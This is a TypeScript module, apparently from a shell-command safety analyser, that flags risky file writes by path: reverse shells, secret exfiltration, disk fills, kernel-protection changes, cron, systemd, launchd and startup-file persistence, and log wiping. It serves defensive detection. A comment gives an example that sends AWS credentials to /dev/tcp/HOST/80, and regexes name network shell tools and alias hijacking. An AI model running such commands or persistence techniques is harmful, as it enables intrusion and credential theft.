// Writes to paths, whatever makes them: redirections, tee, and the targets of
// cp/mv/install/dd. The path decides the risk.
import type { Cmd, Word } from "../command.ts";
import type { Judgement } from "../judgement.ts";
import type { Finding } from "../types.ts";
import { describeSource } from "../flow.ts";
import { staticOutput } from "../static-text.ts";
import {
  SHELLS,
  isSensitiveFile,
  isSystemLog,
  isAuthorizedKeys,
  isBlockDevice,
  isCriticalSystemFile,
  isHarmlessDevice,
  isHistoryFile,
  isLogFile,
  isNetworkDevice,
  isSecretPath,
  isShellStartupFile,
  normalizePath,
} from "../paths.ts";

const WRITE_OPS = new Set([">", ">|", ">>", "&>", "&>>", ">&", "<>"]);
/** Commands that write nothing when used as `CMD > file`: the file ends up empty. */
const TRUNCATORS = new Set([":", "true", "false"]);

export type WriteMode = "overwrite" | "append" | "truncate";

export function judgeRedirect(cmd: Cmd, r: { op: string; target: Word | null; start: number; end: number }, j: Judgement) {
  const t = r.target;
  if (!t) return;
  if (r.op === "<" || r.op === "<&" || r.op === "<<<") {
    if (isNetworkDevice(t.text) && SHELLS.has(cmd.name)) j.report("net.reverse-shell", r.start, r.end);
    return;
  }
  if (!WRITE_OPS.has(r.op)) return;
  if ((r.op === ">&" || r.op === "<>") && /^(\d+|-)$/.test(t.text)) return;
  const append = r.op === ">>" || r.op === "&>>";
  let mode: WriteMode = append ? "append" : "overwrite";
  const empties =
    cmd.bare ||
    TRUNCATORS.has(cmd.name) ||
    (cmd.name === "cat" && cmd.args.length === 1 && cmd.args[0]!.text === "/dev/null") ||
    (cmd.name === "echo" && cmd.args.length === 1 && cmd.args[0]!.text === "-n") ||
    (cmd.name === "printf" && cmd.args.length === 1 && cmd.args[0]!.text === "");
  if (empties && !append) mode = "truncate";
  judgeWrite(cmd, t, mode, j, { start: r.start, end: r.end }, staticOutput([cmd]));
  if (mode === "overwrite") overwriteOfInput(cmd, t, j, r);
  if (
    !append &&
    /^\/dev\/(zero|u?random)$/.test(cmd.args.find((w) => w.text.startsWith("/dev/"))?.text ?? "") &&
    (cmd.name === "cat" || cmd.name === "pv")
  )
    if (!isBlockDevice(normalizePath(t.text))) j.report("fs.fill-disk", cmd.start, r.end);
  if (cmd.name === "yes" && !isHarmlessDevice(normalizePath(t.text))) j.report("fs.fill-disk", cmd.start, r.end);
  // `head -c 2T /dev/zero > f`: a file of hundreds of gigabytes or more.
  if (
    !append &&
    cmd.name === "head" &&
    cmd.args.some((w) => /^\/dev\/(zero|u?random)$/.test(w.text)) &&
    cmd.args.some(
      (w, i) =>
        /^(-c|--bytes)$/.test(cmd.args[i - 1]?.text ?? "") && /^\d+(\.\d+)?([TPE]|[TPE]i?B|\d{2,}G|\d{2,}GB?)$|^\d{12,}$/.test(w.text),
    ) &&
    !isHarmlessDevice(normalizePath(t.text))
  )
    j.report("fs.fill-disk", cmd.start, r.end);
}

/** Any write to a path: redirections, tee, cp/mv/install/dd targets. */
export function judgeWrite(
  cmd: Cmd,
  t: Word,
  mode: WriteMode,
  j: Judgement,
  span: { start: number; end: number } = t,
  content?: string | null,
) {
  const path = normalizePath(t.text, cmd.cwd);
  if (isHarmlessDevice(path)) return;
  if (isNetworkDevice(path)) {
    if (SHELLS.has(cmd.name) || cmd.compound) j.report("net.reverse-shell", span.start, span.end);
    // `cat ~/.aws/credentials > /dev/tcp/HOST/80`
    else if (
      cmd.args.some((w) => isSecretPath(normalizePath(w.text, cmd.cwd))) ||
      (cmd.pipe && cmd.pipe.index > 0 && describeSource(cmd.pipe.stages, cmd.pipe.index).secret)
    )
      j.report("net.exfiltrate-secret", cmd.start, span.end);
    return;
  }
  if (isBlockDevice(path)) return j.report("disk.write-device", span.start, span.end);
  if (path === "/proc/sysrq-trigger") return j.report("sys.sysrq", span.start, span.end);
  if (
    /^\/proc\/sys\/(kernel\/(randomize_va_space|yama\/ptrace_scope|kptr_restrict|dmesg_restrict|modules_disabled|perf_event_paranoid|unprivileged_bpf_disabled)|fs\/protected_\w+)$/.test(
      path,
    )
  )
    return j.report("sys.protection-off", span.start, span.end);
  if (/^\/(proc\/sys|sys)\//.test(path)) return j.report("sys.kernel-change", span.start, span.end);
  if (isCriticalSystemFile(path)) return j.report("fs.write-critical-file", span.start, span.end);
  if (isAuthorizedKeys(path))
    return j.report(/^\/root\/|^\/var\/root\//.test(path) ? "persist.root-authorized-keys" : "fs.authorized-keys", span.start, span.end);
  if (isShellStartupFile(path)) {
    const found = content != null ? j.nested(content, span) : [];
    // Remote code or a remote shell in a start-up file, appended or written over it.
    if (found.some(isRemoteCode)) j.report("persist.startup-remote-code", span.start, span.end);
    if (mode === "append" && content != null && startupCodeIsRisky(content, found, j, span))
      return j.report("persist.startup-file-code", span.start, span.end);
    return j.report(mode === "append" ? "fs.append-startup-file" : "fs.clobber-startup-file", span.start, span.end);
  }
  if (isSensitiveFile(path)) {
    // A cron table's lines are jobs: judge each command (after the schedule, and the user in system tables).
    if (content != null && /cron/.test(path)) {
      const fields = /^\/etc\/(crontab|cron\.d\/)/.test(path) ? 6 : 5;
      for (const line of content.split("\n")) {
        const job = line.trim().replace(new RegExp(`^(@\\w+(\\s+\\S+)?\\s+|(\\S+\\s+){${fields}})`), "");
        if (!job || line.trim().startsWith("#") || /^\w+=/.test(line.trim())) continue;
        if (jobIsHidden(job, span, j)) return j.report("cron.remote-job", span.start, span.end);
      }
    }
    // A service unit's Exec lines run at every boot (or login): the same test as a cron job.
    if (content != null && /(^|\/)systemd\/.*\.(service|socket|timer|path)$/.test(path)) {
      for (const m of content.matchAll(/^\s*Exec(?:Start|StartPre|StartPost|Stop|Reload|Condition)\s*=\s*[-@:+!]*(.*)$/gm))
        if (m[1] && jobIsHidden(m[1], span, j)) return j.report("persist.unit-hidden-code", span.start, span.end);
    }
    // An autostart entry: its Exec line runs at every graphical login.
    if (content != null && /(^|\/)autostart\/[^/]+\.desktop$/.test(path)) {
      for (const m of content.matchAll(/^\s*Exec\s*=\s*(.*)$/gm))
        if (m[1] && jobIsHidden(m[1], span, j)) return j.report("persist.unit-hidden-code", span.start, span.end);
    }
    // A launchd job: its ProgramArguments strings are the command it runs at every login or boot.
    if (content != null && /Launch(Agents|Daemons)\/.*\.plist$/.test(path)) {
      const args = [...content.matchAll(/<string>([^<]*)<\/string>/g)].map((m) => m[1]!.trim()).filter(Boolean);
      const shell = args.findIndex((a) => a === "-c");
      const job = shell >= 0 && args[shell + 1] ? args[shell + 1]! : args.filter((a) => a.startsWith("/")).join(" ");
      if (job && jobIsHidden(job, span, j)) return j.report("persist.unit-hidden-code", span.start, span.end);
    }
    // System-wide start-up scripts (/etc/profile.d, /etc/bash.bashrc, rc.local, init.d): every login or boot runs them.
    if (
      content != null &&
      /^\/etc\/(profile|profile\.d\/.*|bash\.bashrc|bashrc|zshrc|zsh\/.*|zprofile|zshenv|rc\.local|init\.d\/.*)$/.test(path)
    )
      if (j.nested(content, span).some(isRemoteCode)) return j.report("persist.startup-remote-code", span.start, span.end);
    return j.report("fs.write-sensitive-file", span.start, span.end);
  }
  if (isHistoryFile(path)) {
    if (mode === "append") return;
    j.report("history.disable", span.start, span.end);
    return j.report("fs.truncate-log", span.start, span.end);
  }
  if (/^\/etc\//.test(path)) return j.report("fs.write-system-file", span.start, span.end);
  if (/^\/(usr\/local|usr\/share|usr\/include|lib\/modules)\//.test(path)) return j.report("fs.write-system-file", span.start, span.end);
  if (/^\/(usr|bin|sbin|lib|lib64|lib32|System)\//.test(path)) {
    // Into a directory: installs a new file. Onto a named file: replaces a program or library.
    const intoDir = /\/$/.test(t.text) || /^\/(usr\/)?(s?bin|lib\w*)$/.test(path);
    return j.report(intoDir ? "fs.write-system-file" : "fs.write-system-binary", span.start, span.end);
  }
  if (mode !== "append" && /^\/var\/(log|run|adm)\/(wtmp|btmp|utmp|lastlog|faillog)$/.test(path))
    return j.report("fs.wipe-system-log", span.start, span.end);
  if (mode === "truncate") {
    if (isSystemLog(path)) return j.report("fs.wipe-system-log", span.start, span.end);
    if (isLogFile(path)) return j.report("fs.truncate-log", span.start, span.end);
    return j.report("fs.truncate", span.start, span.end);
  }
  if (mode === "overwrite" && isSecretPath(path)) return j.report("fs.truncate", span.start, span.end);
}

/** Programs whose operands are not input files. */
const NO_INPUT = new Set([
  "echo",
  "printf",
  "touch",
  "mkdir",
  "test",
  "[",
  "true",
  ":",
  "date",
  "seq",
  "yes",
  "ls",
  "find",
  "curl",
  "wget",
]);

/** `sort f > f`: the shell truncates f before the command reads it. */
function overwriteOfInput(cmd: Cmd, t: Word, j: Judgement, r: { start: number; end: number }) {
  if (t.dynamic || isHarmlessDevice(t.text)) return;
  const target = normalizePath(t.text, cmd.cwd);
  const stages = cmd.pipe?.stages ?? [cmd];
  const upto = cmd.pipe ? cmd.pipe.index : 0;
  for (let i = 0; i <= upto; i++) {
    const s = stages[i]!;
    if (s.compound || NO_INPUT.has(s.name)) continue;
    const ops = s.args.filter((w) => w !== t && !w.text.startsWith("-") && !w.dynamic);
    // sed/awk/grep take a script or pattern first; comparing it to the target is harmless.
    if (ops.some((w) => normalizePath(w.text, cmd.cwd) === target)) {
      j.report("fs.overwrite-input", s.start, r.end);
      return;
    }
  }
}

/** Text that, run as a script, fetches and runs remote code or opens a remote shell. */
/** A job that runs remote code, something risky, or a program from a temporary or hidden folder. */
function jobIsHidden(job: string, span: { start: number; end: number }, j: Judgement): boolean {
  const found = j.nested(job, span);
  return (
    found.some((f) => f.rule.startsWith("exec.") || f.risk === "critical" || f.risk === "high") ||
    /^\S*(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/\.[^/\s]+\/)/.test(job)
  );
}

const isRemoteCode = (f: Finding) => f.risk === "critical" || /^(exec\.remote-code|exec\.obfuscated|net\.reverse)/.test(f.rule);

/** Commands people alias to something else to catch passwords or hide activity. */
const HIJACKED = /^\s*alias\s+(sudo|su|ssh|ls|cd|git|rm|cp|mv|cat|ps|passwd|curl|wget|bash|sh|gpg|docker|kubectl)=/m;

/**
 * Text appended to a shell start-up file runs in every new shell: risky when it
 * is risky as a command (judged as a script), hijacks a common command, or
 * preloads a library or a PATH from a temporary folder.
 */
function startupCodeIsRisky(content: string, found: Finding[], j: Judgement, span: { start: number; end: number }): boolean {
  if (found.some((f) => f.risk !== "safe" && f.rule !== "fs.delete")) return true;
  // PROMPT_COMMAND and DEBUG traps run before every prompt or command: judge them as commands.
  for (const m of content.matchAll(/\bPROMPT_COMMAND\+?=(["']?)(.*?)\1\s*(?:$|;|\n)|\btrap\s+(["'])(.*?)\3\s+DEBUG\b/gm)) {
    const code = m[2] ?? m[4] ?? "";
    if (
      code &&
      (/\b(curl|wget|nc|ncat|socat|scp|ssh)\b/.test(code) || j.nested(code, span).some((f) => f.risk !== "safe" && f.rule !== "fs.delete"))
    )
      return true;
  }
  return (
    HIJACKED.test(content) ||
    /\b(LD_PRELOAD|DYLD_INSERT_LIBRARIES)=|PATH=["']?\/(tmp|var\/tmp|dev\/shm)\b/.test(content) ||
    // Running or sourcing something from a temporary or hidden folder at every login.
    /(^|[\s;&|(])(source\s+|\.\s+|sh\s+|bash\s+|exec\s+|nohup\s+)?\/(tmp|var\/tmp|dev\/shm)\/\S+|(^|[\s;&|(])(source|\.|sh|bash|exec)\s+\S*\/\.[^/\s]+\/\S+/.test(
      content,
    )
  );
}
